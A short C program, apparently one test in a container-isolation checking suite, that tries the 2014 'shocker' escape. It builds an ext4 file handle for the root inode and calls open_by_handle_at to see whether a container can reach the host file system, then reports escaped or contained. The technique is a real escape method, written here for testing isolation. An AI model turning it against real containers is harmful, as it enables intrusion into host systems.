/* escape_shocker: the 2014 "shocker" container escape: open_by_handle_at
 * opens any inode of a file system by number, past the mount namespace
 * and the root. Builds a handle for inode 2 (the root of ext2/3/4) and
 * asks for it, after name_to_handle_at on a host file. */
#include <fcntl.h>

#include "escape.h"

int main(void)
{
	struct {
		struct file_handle fh;
		unsigned char buf[MAX_HANDLE_SZ];
	} h;
	int mount_id, fd, e1;

	memset(&h, 0, sizeof(h));
	h.fh.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, "/etc/hostname", &h.fh, &mount_id, 0) == 0)
		ESCAPED("name_to_handle_at gave a handle for /etc/hostname");
	e1 = errno;
	/* ext4's FILEID_INO32_GEN handle for the root inode: ino 2, gen 0 */
	h.fh.handle_bytes = 8;
	h.fh.handle_type = 1;
	memcpy(h.fh.f_handle, &(unsigned int){2}, 4);
	fd = open_by_handle_at(open("/", O_PATH | O_CLOEXEC), &h.fh, O_RDONLY | O_CLOEXEC);
	if (fd >= 0)
		ESCAPED("open_by_handle_at opened the file system's root inode");
	CONTAINED("name_to_handle_at: %s; open_by_handle_at: %s", errname(e1), errname(errno));
}
